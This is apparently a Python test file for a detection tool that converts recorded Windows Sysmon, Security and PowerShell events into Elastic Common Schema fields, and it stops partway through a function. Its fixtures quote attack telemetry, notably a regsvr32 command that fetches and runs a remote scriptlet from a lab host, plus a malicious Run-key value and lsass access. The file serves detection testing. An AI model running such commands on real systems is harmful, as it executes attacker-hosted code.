"""The ECS view of raw Windows events (engine/ecs.py, ecs.yaml, docs/ecs.md).

Expected values were written by reading each raw event and the Elastic integration pipeline
step named beside it (elastic/integrations sysmon_operational / system security standard.yml /
powershell_operational default.yml), not by running ecs_view.
"""

from __future__ import annotations

from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import OTRF, ROOT, SIGMA
from ruleatlas.coverage.routing import event_key
from ruleatlas.engine.ecs import (
    FN_KEYS,
    command_line_to_argv,
    ecs_view,
    kind_table,
    security_args,
)
from ruleatlas.engine.readers import read_events

REG = SIGMA / "regression_data"
OTRF_WIN = OTRF / "datasets" / "atomic" / "windows"
ABSENT = object()


@lru_cache(maxsize=512)
def _events(path: str) -> tuple[Any, ...]:
    errors: list[Any] = []
    evs = tuple(read_events([path], errors=errors))
    assert not errors, errors
    return evs


def event(path: Path, position: int) -> dict[str, Any]:
    for e in _events(str(path)):
        if e.position == position:
            return dict(e.fields)
    raise AssertionError(f"no event at {path}#{position}")


def check(view: dict[str, Any], expected: dict[str, Any]) -> None:
    wrong = {k: (view.get(k, ABSENT), v) for k, v in expected.items()
             if (k in view if v is ABSENT else view.get(k, ABSENT) != v)}
    assert not wrong, wrong


# --------------------------------------------------------------------------------------------
# Hand-checked views of real events
# --------------------------------------------------------------------------------------------

SYSMON1 = REG / ("rules-emerging-threats/2025/Exploits/CVE-2025-55182/proc_creation_win_exploit_"
                 "cve_2025_55182_susp_nodejs_server_child_process/"
                 "271de298-cc0e-4842-acd8-079a0a99ea65.evtx")
NODE = "C:\\Users\\xodih\\AppData\\Local\\Temp\\bun-node-274e01c73\\node.exe"
START = ("C:\\Users\\xodih\\Downloads\\CVE-2025-55182-main\\CVE-2025-55182-main\\test-server\\"
         "node_modules\\next\\dist\\server\\lib\\start-server.js")


def test_sysmon_1_process_creation() -> None:
    view = ecs_view(event(SYSMON1, 1))
    check(view, {
        "event.category": ["process"], "event.type": ["start"],
        "event.action": "Process creation", "event.code": "1", "event.kind": "event",
        "event.provider": "Microsoft-Windows-Sysmon",
        "event.dataset": "windows.sysmon_operational",
        "data_stream.dataset": "windows.sysmon_operational",
        "event.outcome": ABSENT,  # Keywords 0x8000000000000000: no audit bit
        "host.name": "swachchhanda", "host.os.type": "windows",
        "process.entity_id": "0197231E-9BE6-6934-5301-000000000B00",
        "process.pid": 3412,
        "process.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.name": "cmd.exe",
        "process.command_line": 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"',
        "process.args": ["C:\\WINDOWS\\system32\\cmd.exe", "/d", "/s", "/c", "whoami"],
        "process.args_count": 5,
        "process.working_directory": ("C:\\Users\\xodih\\Downloads\\CVE-2025-55182-main\\"
                                      "CVE-2025-55182-main\\test-server\\"),
        "process.pe.original_file_name": "Cmd.Exe",
        "process.pe.company": "Microsoft Corporation",
        "process.pe.description": "Windows Command Processor",
        "process.pe.file_version": "10.0.26100.2454 (WinBuild.160101.0800)",
        "process.hash.md5": "352b525e9c26cb92693899528fe007c2",
        "process.hash.sha256": "1f1d918ec49e0b7c59b704ff412e1a6e224da81c08cda657e1cb482abaac146c",
        "process.pe.imphash": "94f3efc2df40ecd7229b904540dd83cf",
        "process.hash.imphash": ABSENT,
        "process.parent.entity_id": "0197231E-9B6B-6934-2B01-000000000B00",
        "process.parent.pid": 1092,
        "process.parent.executable": NODE,
        "process.parent.name": "node.exe",
        "process.parent.args": [NODE, START],
        "process.parent.args_count": 2,
        "user.id": "S-1-5-18", "user.name": "xodih", "user.domain": "swachchhanda",
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "winlog.event_id": "1", "winlog.record_id": "67583",
        "winlog.computer_name": "swachchhanda",
        "winlog.event_data.IntegrityLevel": "Medium",
        "winlog.event_data.TerminalSessionId": "1",  # an int in EVTX, text as Winlogbeat has it
        "winlog.event_data.ProcessId": "3412",
        "winlog.event_data.LogonId": "0x1eba8",
        "winlog.event_data.RuleName": ABSENT,  # "-" is dropped by the Sysmon pipeline
        "winlog.event_data.Channel": ABSENT,  # System fields are not EventData
        "file.path": ABSENT, "registry.path": ABSENT,
    })


def test_sysmon_11_file_create() -> None:
    path = REG / ("rules-emerging-threats/2026/Exploits/RedSun/file_event_win_exploit_redsun_"
                  "indicators/f2e4b7d9-5c3a-4f8b-9e1d-7a6c2b3f4e5d.evtx")
    d = "C:\\Users\\xodih\\AppData\\Local\\Temp\\RS-{05A3207F-23AB-432D-BDAF-69A8306619CF}"
    check(ecs_view(event(path, 1)), {
        "event.category": ["file"], "event.type": ["creation"], "event.action": "FileCreate",
        "file.path": d + "\\TieringEngineService.exe", "file.name": "TieringEngineService.exe",
        "file.directory": d, "file.extension": "exe", "rule.name": "EXE",
        "process.name": "RedSun.exe", "process.pid": 15596,
    })


def test_sysmon_17_pipe_name_is_file_name() -> None:
    path = REG / ("rules-emerging-threats/2026/Exploits/RedSun/pipe_created_win_exploit_redsun_"
                  "named_pipe/9b4e7c2a-3f6d-4a8b-b5e9-1c7d3f2e6a4b.evtx")
    check(ecs_view(event(path, 1)), {
        "event.action": "PipeEvent (Pipe Created)", "event.category": ["file"],
        "file.name": "\\REDSUN", "file.path": ABSENT,
        "winlog.event_data.EventType": "CreatePipe",  # Sysmon's EventType is EventData
    })


def test_sysmon_7_image_load_library_shape() -> None:
    path = REG / ("rules/windows/image_load/image_load_side_load_vcruntime140/"
                  "d7a63acb-1284-49bc-bfea-7771146c8b1c.evtx")
    dll = "C:\\Users\\xodih\\AppData\\Local\\Temp\\vcruntime140.dll"
    check(ecs_view(event(path, 1)), {
        "event.category": ["process", "library"], "event.type": ["change", "start"],
        "event.action": ["Image loaded", "load"],
        "process.executable": "C:\\Users\\xodih\\AppData\\Local\\Temp\\sqlwriter.exe",
        "process.name": "sqlwriter.exe",
        "file.path": dll, "file.name": "vcruntime140.dll", "file.extension": "dll",
        "dll.path": dll, "dll.name": "vcruntime140.dll",
        "file.hash.md5": "6349c0af16bbd22b44bcbbe25c19d82d",
        "dll.hash.sha256": "e7801d25e1a0aa8ffa929d76c31cc604bbb2404f7b8396f0bf3de325e034e257",
        "dll.pe.imphash": "376f17c483a08d322404d3c4a8f0a5ce",
        "file.code_signature.status": "Unavailable",
        "file.code_signature.signed": ABSENT,  # Signed is "false"
        "file.code_signature.valid": ABSENT,
        "file.code_signature.trusted": False, "dll.code_signature.trusted": False,
        "file.code_signature.subject_name": ABSENT,  # Signature "-"
        "file.pe.original_file_name": ABSENT,  # "-"
        "process.pe.original_file_name": ABSENT,  # never from a Sysmon 7 event
        "process.hash.md5": ABSENT,  # Sysmon 7 hashes are the module's
    })


# The event of elastic/integrations' own pipeline test (sysmon_operational, ECS 8.17)
# _dev/test/pipeline/test-image-loaded-failed-signature.json; the expected values are that
# test's -expected.json (the fields the view has a source for).
ELASTIC_SYSMON7 = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"
    "<EventID>7</EventID><Version>3</Version><Level>4</Level><Task>7</Task><Opcode>0</Opcode>"
    "<Keywords>0x8000000000000000</Keywords>"
    "<TimeCreated SystemTime='2020-10-28T02:39:26.388325200Z'/>"
    "<EventRecordID>10685</EventRecordID><Correlation/>"
    "<Execution ProcessID='1676' ThreadID='4796'/>"
    "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>vagrant</Computer>"
    "<Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data>"
    "<Data Name='UtcTime'>2020-10-28 02:39:26.374</Data>"
    "<Data Name='ProcessGuid'>{9f32b55f-d9de-5f98-f006-000000000600}</Data>"
    "<Data Name='ProcessId'>5184</Data>"
    "<Data Name='Image'>C:\\Windows\\System32\\dllhost.exe</Data>"
    "<Data Name='ImageLoaded'>C:\\Windows\\System32\\IDStore.dll</Data>"
    "<Data Name='FileVersion'>10.0.17763.1 (WinBuild.160101.0800)</Data>"
    "<Data Name='Description'>Identity Store</Data>"
    "<Data Name='Product'>Microsoft Windows Operating System</Data>"
    "<Data Name='Company'>Microsoft Corporation</Data>"
    "<Data Name='OriginalFileName'>IdStore.dll</Data>"
    "<Data Name='Hashes'>SHA1=9955A1C071C44A7CEECC0D928A9CFB7F64CC3F93,"
    "MD5=C7C45610F644906E6F7D664EF2E45B08,"
    "SHA256=4808F1101F4E42387D8DDB7A355668BAE3BF6F781C42D3BCD82E23446B1DEB3E,"
    "IMPHASH=194F3797B52231028C718B6D776C6853</Data>"
    "<Data Name='Signed'>failed: Invalid hash</Data><Data Name='Signature'>-</Data>"
    "<Data Name='SignatureStatus'>-</Data>"
    "<Data Name='User'>DOMAIN\\username</Data></EventData></Event>")


def test_elastic_pipeline_test_event_sysmon_7() -> None:
    from ruleatlas.engine.readers.xmllog import parse_record

    sha256 = "4808f1101f4e42387d8ddb7a355668bae3bf6f781c42d3bcd82e23446b1deb3e"
    check(ecs_view(parse_record(ELASTIC_SYSMON7)), {
        "dll.code_signature.status": "failed: Invalid hash",
        "dll.hash.md5": "c7c45610f644906e6f7d664ef2e45b08",
        "dll.hash.sha1": "9955a1c071c44a7ceecc0d928a9cfb7f64cc3f93", "dll.hash.sha256": sha256,
        "dll.name": "IDStore.dll", "dll.path": "C:\\Windows\\System32\\IDStore.dll",
        "dll.pe.imphash": "194f3797b52231028c718b6d776c6853",
        "dll.pe.original_file_name": "IdStore.dll",
        "event.action": ["Image loaded", "load"], "event.category": ["process", "library"],
        "event.code": "7", "event.kind": "event", "event.provider": "Microsoft-Windows-Sysmon",
        "event.type": ["change", "start"],
        "file.code_signature.trusted": False, "file.code_signature.status": ABSENT,
        "file.code_signature.subject_name": ABSENT, "dll.code_signature.trusted": ABSENT,
        "file.directory": "C:\\Windows\\System32", "file.extension": "dll",
        "file.hash.sha256": sha256, "file.name": "IDStore.dll",
        "file.path": "C:\\Windows\\System32\\IDStore.dll",
        "file.pe.company": "Microsoft Corporation", "file.pe.description": "Identity Store",
        "file.pe.file_version": "10.0.17763.1 (WinBuild.160101.0800)",
        "file.pe.imphash": "194f3797b52231028c718b6d776c6853",
        "file.pe.original_file_name": "IdStore.dll",
        "file.pe.product": "Microsoft Windows Operating System",
        "process.entity_id": "{9f32b55f-d9de-5f98-f006-000000000600}",
        "process.executable": "C:\\Windows\\System32\\dllhost.exe",
        "process.name": "dllhost.exe", "process.pid": 5184,
        "user.domain": "DOMAIN", "user.id": "S-1-5-18", "user.name": "username",
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "winlog.computer_name": "vagrant", "winlog.event_id": "7", "winlog.record_id": "10685",
        "winlog.provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "winlog.provider_name": "Microsoft-Windows-Sysmon", "winlog.version": 3,
        "winlog.process.pid": 1676, "winlog.process.thread.id": 4796,
        "winlog.user.identifier": "S-1-5-18",
        "winlog.event_data.Signed": "failed: Invalid hash",
        "winlog.event_data.Company": "Microsoft Corporation",
    })


def test_sysmon_10_process_access() -> None:
    path = REG / ("rules/windows/process_access/proc_access_win_susp_dbgcore_dbghelp_load/"
                  "9f5c1d59-33be-4e60-bcab-85d2f566effd.evtx")
    check(ecs_view(event(path, 1)), {
        "event.category": ["process"], "event.type": ["access"],
        "event.action": "ProcessAccess",
        "process.entity_id": "0197231E-046C-6928-160C-000000000D00",
        "process.pid": 296, "process.thread.id": 5260,
        "process.executable": "C:\\Users\\Public\\wsass\\WerFaultSecure.exe",
        "process.name": "WerFaultSecure.exe",
        "winlog.event_data.TargetImage": "C:\\WINDOWS\\system32\\lsass.exe",
        "winlog.event_data.GrantedAccess": "0x1fffff",
        "user.id": "S-1-5-18", "user.name": ABSENT,  # SourceUser is not mapped
    })


def test_sysmon_12_registry_delete() -> None:
    path = REG / ("rules/windows/registry/registry_delete/registry_delete_disable_credential_"
                  "guard/d645ef86-2396-48a1-a2b6-b629ca3f57ff.evtx")
    key = "SOFTWARE\\Policies\\Microsoft\\Windows\\DeviceGuard\\RequirePlatformSecurityFeatures"
    check(ecs_view(event(path, 1)), {
        "event.category": ["configuration", "registry"], "event.type": ["change"],
        "event.action": "RegistryEvent (Object create and delete)",
        "registry.path": "HKLM\\" + key, "registry.hive": "HKLM", "registry.key": key,
        "registry.value": "RequirePlatformSecurityFeatures",
        "registry.data.strings": ABSENT, "registry.data.type": ABSENT,
    })


def test_sysmon_13_dword_details() -> None:
    path = REG / ("rules/windows/registry/registry_set/registry_set_allow_rdp_remote_assistance_"
                  "feature/37b437cf-3fc5-4c8e-9c94-1d7c9aff842b.evtx")
    check(ecs_view(event(path, 1)), {
        "event.action": "RegistryEvent (Value Set)",
        "registry.data.strings": ["1"], "registry.data.type": "SZ_DWORD",
        "registry.value": "fAllowToGetHelp",
        "registry.key": "System\\CurrentControlSet\\Control\\Terminal Server\\fAllowToGetHelp",
        "user.name": "Administrator", "user.domain": "ATTACKRANGE",
        "host.name": "ar-win-dc.attackrange.local",
    })


def test_sysmon_16_config_change() -> None:
    path = REG / ("rules/windows/sysmon/sysmon_config_modification/"
                  "8ac03a65-6c84-4116-acad-dc1558ff7a77.evtx")
    check(ecs_view(event(path, 1)), {
        "event.category": ["configuration"], "event.type": ["change"],
        "event.action": "ServiceConfigurationChange",
        "user.id": "S-1-5-21-3960063115-309473240-3247002503-500",
        "winlog.event_data.Configuration":
            "C:\\Users\\Administrator\\Downloads\\sysmonconfig-trace.xml",
        "process.executable": ABSENT,
    })


def test_security_4648_subject_overrides_target() -> None:
    path = REG / ("rules/windows/builtin/security/win_security_explicit_credential_local_logon/"
                  "e3c6d245-7b8f-4e2a-c17f-a9d0e5b38f62.evtx")
    check(ecs_view(event(path, 1)), {
        "event.category": ["authentication"], "event.type": ["start"],
        "event.action": "logged-in-explicit", "event.outcome": "success",
        "event.dataset": "system.security", "event.code": "4648",
        "user.id": "S-1-5-21-2555720767-1205513275-3893774561-1001",
        "user.name": "xodih", "user.domain": "SWACHCHHANDA",
        "user.effective.name": "testuser", "user.effective.domain": "swachchhanda",
        "user.effective.id": ABSENT,
        "winlog.logon.id": "0x85527",
        "process.pid": 0x378,
        "process.executable": "C:\\Users\\xodih\\OneDrive\\Desktop\\LegacyHive.exe",
        "process.name": "LegacyHive.exe",
        "source.ip": ABSENT, "source.port": ABSENT,  # "-"
        "winlog.event_data.TargetServerName": "localhost",
    })


def test_security_4701_scheduled_task_disabled() -> None:
    path = REG / ("rules/windows/builtin/security/win_security_susp_scheduled_task_delete_or_"
                  "disable/7595ba94-cf3b-4471-aa03-4f6baa9e5fad.evtx")
    check(ecs_view(event(path, 1)), {
        "event.action": "scheduled-task-disabled",
        "event.category": ["iam", "configuration"], "event.type": ["change", "admin"],
        "user.name": "xodih", "user.domain": "SWACHCHHANDA",
        "winlog.logon.id": "0x3144c",
        "winlog.event_data.TaskName": "\\Microsoft\\Windows\\SystemRestore\\SR",
        "process.pid": ABSENT,  # 4701 is not among "Rename Common Auth Fields"
    })


EMPIRE = OTRF_WIN / "defense_evasion" / "host" / "empire_launcher_sct_regsvr32.zip"
EMPIRE_JSON = "empire_launcher_sct_regsvr32_2020-07-21232741.json"
REGSVR = '"C:\\windows\\system32\\regsvr32.exe" /s /n /u /i:http://10.10.10.5:8444/launcher.sct'


def otrf(position: int, archive: Path = EMPIRE) -> dict[str, Any]:
    return event(archive, position)


def test_otrf_security_4688_keeps_quotes_in_args() -> None:
    check(ecs_view(otrf(219)), {
        "event.action": "created-process", "event.outcome": "success",
        "event.category": ["process"], "event.type": ["start"],
        "process.pid": 0x24A8, "process.parent.pid": 0x21C8,
        "process.executable": "C:\\Windows\\System32\\regsvr32.exe",
        "process.name": "regsvr32.exe", "process.parent.name": "powershell.exe",
        "process.command_line": REGSVR + " scrobj.dll",
        "process.args": ['"C:\\windows\\system32\\regsvr32.exe"', "/s", "/n", "/u",
                         "/i:http://10.10.10.5:8444/launcher.sct", "scrobj.dll"],
        "process.args_count": ABSENT,  # the Security pipeline sets no count
        "user.id": "S-1-5-21-2253742117-2054739524-205962475-1104",
        "user.name": "pgustavo", "user.domain": "MORDOR",
        "user.effective.id": "S-1-0-0", "user.effective.name": ABSENT,
        "winlog.task": "Process Creation", "host.name": "WORKSTATION5.mordor.local",
        "winlog.event_data.MandatoryLabel": "S-1-16-12288",
        "winlog.event_data.EventType": ABSENT,  # NXLog's AUDIT_SUCCESS: envelope
    })


def test_otrf_sysmon_1_nxlog() -> None:
    check(ecs_view(otrf(97)), {
        "process.args": ["C:\\windows\\system32\\regsvr32.exe", "/s", "/n", "/u",
                         "/i:http://10.10.10.5:8444/launcher.sct", "scrobj.dll"],
        "process.args_count": 6,
        "process.parent.args": ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
        "process.pe.original_file_name": "REGSVR32.EXE",
        "user.name": "pgustavo", "user.domain": "MORDOR",
        "winlog.event_data.EventType": ABSENT,  # NXLog's INFO
        "winlog.event_data.AccountName": ABSENT,  # NXLog's resolved user
    })


def test_otrf_sysmon_3_network() -> None:
    check(ecs_view(otrf(999)), {
        "event.category": ["network"], "event.type": ["start", "connection", "protocol"],
        "source.ip": "172.18.39.5", "source.port": 50245,
        "destination.ip": "172.18.38.6", "destination.port": 5985,
        "network.transport": "tcp", "network.direction": "egress", "network.type": "ipv4",
        "source.domain": ABSENT, "network.protocol": ABSENT,  # "-"
        "user.name": "NETWORK SERVICE", "user.domain": "NT AUTHORITY",
    })


def test_otrf_sysmon_13_qword_follows_the_pipeline() -> None:
    # 'QWORD (0x01d65fd8-0x0f865f72)': (0x01d65fd8 << 8) + 0x0f865f72 = 7891572736 + 260464498
    check(ecs_view(otrf(23)), {
        "registry.data.strings": ["8152037234"], "registry.data.type": "SZ_QWORD",
        "registry.hive": "HKLM", "registry.value": "LastKnownGoodTime",
        "winlog.event_data.EventType": "SetValue",
    })


def test_otrf_powershell_4104() -> None:
    check(ecs_view(otrf(357)), {
        "event.dataset": "windows.powershell_operational",
        "event.category": "process", "event.type": "info", "event.code": "4104",
        "event.action": "Execute a Remote Command",
        "powershell.file.script_block_text":
            ".\\regsvr32.exe /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll",
        "powershell.file.script_block_id": "285fc71a-1d15-482e-8122-177248f5d0ab",
        "powershell.sequence": 1, "powershell.total": 1,
        "user.id": "S-1-5-21-2253742117-2054739524-205962475-1104",
    })


def test_otrf_powershell_4103_context_info() -> None:
    check(ecs_view(otrf(353)), {
        "process.command_line": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "process.args": ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
        "process.args_count": 1,
        "process.entity_id": "6d6b6eef-1252-4b65-8d97-0532788a2db2",
        "process.title": "ConsoleHost",
        "powershell.command.name": "PSConsoleHostReadLine",
        "powershell.command.type": "Function", "powershell.pipeline_id": "53",
        "powershell.runspace_id": "9f9281eb-2477-4a03-abdf-2b63404d01ee",
        "user.name": "pgustavo", "user.domain": "MORDOR", "event.sequence": 58,
    })


def test_otrf_security_4624_network_logon() -> None:
    arc = OTRF_WIN / "lateral_movement" / "host" / "covenant_dcom_executeexcel4macro_allowed.zip"
    check(ecs_view(event(arc, 2)), {
        "event.action": "logged-in", "event.category": ["authentication"],
        "event.outcome": "success", "winlog.logon.type": "Network",
        "source.ip": "fe80::9582:39e0:356b:ef4e", "source.port": 56566,
        "user.id": "S-1-5-18", "user.name": "MORDORDC$", "user.domain": "THESHIRE.LOCAL",
        "winlog.logon.id": "0x0", "process.pid": 0,
        "winlog.event_data.AuthenticationPackageName": "Kerberos",
    })


def test_otrf_sysmon_22_dns() -> None:
    arc = (OTRF_WIN / "lateral_movement" / "host"
           / "aadinternals_export_adfsdatabaseconfig_remotely.zip")
    names = ["sevillecloudgateway-eus-prd.trafficmanager.net",
             "wdatpprd-eus2.securitycenter.windows.com", "k8stm-prd-eus2.trafficmanager.net",
             "wdatp-prd-eus2-3.eastus2.cloudapp.azure.com"]
    check(ecs_view(event(arc, 209)), {
        "event.category": ["network"], "event.type": ["connection", "protocol", "info"],
        "event.action": "DNSEvent (DNS query)", "network.protocol": "dns",
        "dns.question.name": "winatp-gw-eus.microsoft.com",
        "dns.answers.type": ["CNAME"] * 4 + ["A"],
        "dns.answers.data": [*names, "40.65.232.222"],
        "dns.resolved_ip": ["40.65.232.222"],
        "process.executable": "<unknown process>", "process.name": ABSENT,
        "process.entity_id": ABSENT,  # the null GUID is dropped
        "process.pid": 4564,
    })


def _rstrip(v: Any) -> Any:
    if isinstance(v, str):
        return v.rstrip()
    return [_rstrip(x) for x in v] if isinstance(v, list) else v


def test_evtx_and_json_beside_it_give_the_same_view() -> None:
    """The view depends on the event, not on the reader: each regression .evtx and the .json
    exported beside it give the same views, up to trailing blanks (the JSON exporter trims
    them) and for one file whose JSON is another export of a slightly different event."""
    differ = set()
    pairs = sorted(REG.glob("**/*.evtx"))
    for evtx in pairs:
        a = [{k: _rstrip(v) for k, v in ecs_view(e.fields).items()} for e in _events(str(evtx))]
        b = [{k: _rstrip(v) for k, v in ecs_view(e.fields).items()}
             for e in _events(str(evtx.with_suffix(".json")))]
        if a != b:
            differ.add(evtx.parent.name)
    assert len(pairs) >= 160
    assert differ == {"proc_creation_win_susp_right_to_left_override"}


# --------------------------------------------------------------------------------------------
# Hand-made events
# --------------------------------------------------------------------------------------------


def test_security_task_name_is_the_action_without_a_pipeline_row() -> None:
    v = ecs_view({"Channel": "Security", "EventID": 5136, "Task": 14081,
                  "Keywords": "0x8020000000000000", "ObjectDN": "CN=x"})
    check(v, {"event.action": "Directory Service Changes", "event.category": ABSENT,
              "winlog.event_data.ObjectDN": "CN=x", "event.outcome": "success"})
    failed = ecs_view({"Channel": "Security", "EventID": "4625", "Keywords": "0x8010000000000000",
                       "LogonType": "10", "TargetUserName": "bob@corp"})
    check(failed, {"event.outcome": "failure", "event.action": "logon-failed",
                   "winlog.logon.type": "RemoteInteractive", "user.name": "bob"})


SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"
REGISTRY_CASES = [
    # TargetObject, Details -> hive, key, value, data.strings, data.type  ([SYSMON] registry)
    ("HKEY_LOCAL_MACHINE\\SOFTWARE\\x\\v", "DWORD (0x0000000a)",
     "HKLM", "SOFTWARE\\x\\v", "v", ["10"], "SZ_DWORD"),
    ("HKU\\S-1-5-21\\Run\\evil", "C:\\evil.exe",
     "HKU", "S-1-5-21\\Run\\evil", "evil", ["C:\\evil.exe"], "REG_SZ"),
    ("HKCR\\x\\y", "Binary Data", "HKCR", "x\\y", "y", ["Binary Data"], "REG_BINARY"),
    ("HKLM\\k", "QWORD (0x00000001-0x00000002)", "HKLM", "k", "k", ["258"], "SZ_QWORD"),
    ("\\REGISTRY\\MACHINE\\x", "DWORD (0x1)", ABSENT, ABSENT, "x", ["DWORD (0x1)"],
     "REG_SZ"),  # unknown hive: no hive, no key; a short DWORD is text
]


@pytest.mark.parametrize(("target", "details", "hive", "key", "value", "strings", "dtype"),
                         REGISTRY_CASES)
def test_registry_rows(target: str, details: str, hive: Any, key: Any, value: str,
                       strings: list[str], dtype: str) -> None:
    v = ecs_view({"Channel": SYSMON_CH, "EventID": 13, "TargetObject": target,
                  "Details": details})
    check(v, {"registry.path": target, "registry.hive": hive, "registry.key": key,
              "registry.value": value, "registry.data.strings": strings,
              "registry.data.type": dtype})


def test_hashes_dns_and_members() -> None:
    v = ecs_view({"Channel": SYSMON_CH, "EventID": 1,
                  "Hashes": "SHA1=00000000,MD5=AB,IMPHASH=00000000000000000000000000000000"})
    check(v, {"process.hash.md5": "ab", "process.hash.sha1": ABSENT,
              "process.pe.imphash": ABSENT})
    dns = ecs_view({"Channel": SYSMON_CH, "EventID": 22, "QueryName": "x.org",
                    "QueryResults": "type:  28 ::1;::ffff:10.0.0.1;fe80::1;"})
    check(dns, {"dns.answers.type": ["AAAA", "A", "AAAA"],
                "dns.answers.data": ["::1", "10.0.0.1", "fe80::1"],
                "dns.resolved_ip": ["10.0.0.1", "fe80::1"]})
    member = ecs_view({"Channel": "Security", "EventID": 4728, "TargetUserName": "Admins",
                       "TargetSid": "S-1-5-32-544", "TargetDomainName": "BUILTIN",
                       "MemberName": "CN=bob,OU=u,DC=corp,DC=local", "SubjectUserName": "eve"})
    # the pipeline takes the 4th comma part of MemberName ("DC=local") as the domain
    check(member, {"event.action": "added-member-to-group", "user.target.name": "bob",
                   "user.target.domain": "local", "group.name": "Admins",
                   "group.id": "S-1-5-32-544", "group.domain": "BUILTIN", "user.name": "eve"})


def test_security_5140_5145_share_files() -> None:
    share = {"Channel": "Security", "ShareName": "\\\\*\\C$", "ShareLocalPath": "\\??\\C:\\"}
    check(ecs_view({**share, "EventID": 5140}), {
        "event.action": "network-share-object-accessed", "file.directory": "\\??\\C:\\",
        "file.name": ABSENT, "file.path": ABSENT})
    check(ecs_view({**share, "EventID": "5145", "RelativeTargetName": "Windows\\x.dll"}), {
        "event.category": ["network", "file"], "file.name": "Windows\\x.dll",
        "file.path": "\\??\\C:\\\\Windows\\x.dll",
        "file.target_path": "\\\\*\\C$\\Windows\\x.dll", "file.extension": "dll"})


def test_collector_fields_are_envelope_only_in_collector_records() -> None:
    session = {"Channel": "Security", "EventID": 4778, "AccountName": "bob",
               "AccountDomain": "CORP", "ClientAddress": "10.1.2.3", "LogonID": "0x1"}
    check(ecs_view(session), {
        "event.action": "session-reconnected", "user.name": "bob", "user.domain": "CORP",
        "source.ip": "10.1.2.3", "winlog.logon.id": "0x1",
        "winlog.event_data.AccountName": "bob"})  # EventData in an EVTX record
    nxlog = {**session, "SourceModuleType": "im_msvistalog", "Domain": "CORP"}
    check(ecs_view(nxlog), {"user.name": "bob", "winlog.event_data.AccountName": ABSENT,
                            "winlog.event_data.Domain": ABSENT})


def test_winlogbeat_names_for_task_and_keywords() -> None:
    # flatten_winlog gives winlog.task (a name) as Task and winlog.keywords (names) as Keywords
    v = ecs_view({"Channel": "Security", "EventID": 4663, "Task": "File System",
                  "Keywords": ["Audit Failure"], "ObjectName": "C:\\x"})
    check(v, {"event.action": "File System", "event.outcome": "failure",
              "winlog.event_data.ObjectName": "C:\\x"})
    sysmon = ecs_view({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                       "Task": "Process Create (rule: ProcessCreate)"})
    assert sysmon["event.action"] == "Process creation"  # the pipeline's action wins


def test_windows_powershell_800_param_lines() -> None:
    data2 = ("\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=15\r\n\r\n"
             "\tUserId=CORP\\alice\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1\r\n"
             "\tHostId=abc\r\n\tHostApplication=powershell.exe -nop -c \"iex 1\"\r\n"
             "\tEngineVersion=5.1\r\n\tRunspaceId=r1\r\n\tPipelineId=3\r\n"
             "\tScriptName=C:\\s\\x.ps1\r\n\tCommandLine=Get-Item\r\n")
    v = ecs_view({"Channel": "Windows PowerShell", "EventID": 800, "Data": ["a", data2, "c"],
                  "Data_1": "a", "Data_2": data2, "Data_3": "c"})
    check(v, {
        "event.dataset": "windows.powershell", "event.category": "process",
        "event.type": "info",
        "process.command_line": 'powershell.exe -nop -c "iex 1"',
        "process.args": ["powershell.exe", "-nop", "-c", "iex 1"], "process.args_count": 4,
        "process.entity_id": "abc", "user.name": "alice", "user.domain": "CORP",
        "powershell.sequence": 1, "powershell.total": 1, "event.sequence": 15,
        "powershell.command.value": "Get-Item", "file.path": "C:\\s\\x.ps1",
        "file.name": "x.ps1", "file.extension": "ps1", "file.directory": "C:\\s",
    })


def test_only_computes_the_same_values() -> None:
    only = frozenset({"process.name", "process.args", "event.category", "file.extension",
                      "winlog.event_data.TargetImage", "user.name", "registry.data.strings"})
    for e in _events(str(EMPIRE))[:600]:
        full = ecs_view(e.fields)
        part = ecs_view(e.fields, event_key(e.fields), only)
        # every requested field the full view has, with the same value; a few more fields
        # (what the requested ones are computed from) may come along, with their values
        assert {k: part[k] for k in only if k in part} == {k: full[k] for k in only if k in full}
        assert all(full.get(k, ABSENT) == v for k, v in part.items())


# --------------------------------------------------------------------------------------------
# Command lines
# --------------------------------------------------------------------------------------------

ARGV_CASES = [
    ("a b c", ["a", "b", "c"]),
    ('"a b" c', ["a b", "c"]),
    ("a\\b c", ["a\\b", "c"]),  # a backslash not before a quote is literal
    ('"a\\\\" b', ["a\\", "b"]),  # 2 backslashes + quote: one backslash, quote closes
    ('a\\"b', ['a"b']),  # 1 backslash + quote: a literal quote
    ('a\\\\\\"b', ['a\\"b']),  # 3 backslashes + quote: one backslash and a literal quote
    ('""', [""]),
    ('"" ""', ["", ""]),
    ('"a""b"', ['a"b']),  # "prior to 2008": "" in quotes is a quote and ends quoting
    ("  lead  and   trail  ", ["lead", "and", "trail"]),
    ("a\tb", ["a", "b"]),
    ("a\nb", ["a\nb"]),  # only space and tab separate
    ("", []),
    # 1 backslash + quote is a literal quote; the later quote opens quoting to the end
    ('C:\\"Program Files"\\x.exe /q', ['C:"Program', "Files\\x.exe /q"]),
    ('"unterminated arg', ["unterminated arg"]),
]


@pytest.mark.parametrize(("cmd", "args"), ARGV_CASES)
def test_command_line_to_argv(cmd: str, args: list[str]) -> None:
    assert command_line_to_argv(cmd) == args


def reference_argv(cmd: str) -> list[str]:
    """A line-by-line port of the pipeline's Painless readNextArg / commandLineToArgv."""
    out: list[str] = []
    while cmd:
        if cmd[0] in " \t":
            cmd = cmd[1:]
            continue
        b, inquote, nslash = "", False, 0
        rest = ""
        while cmd:
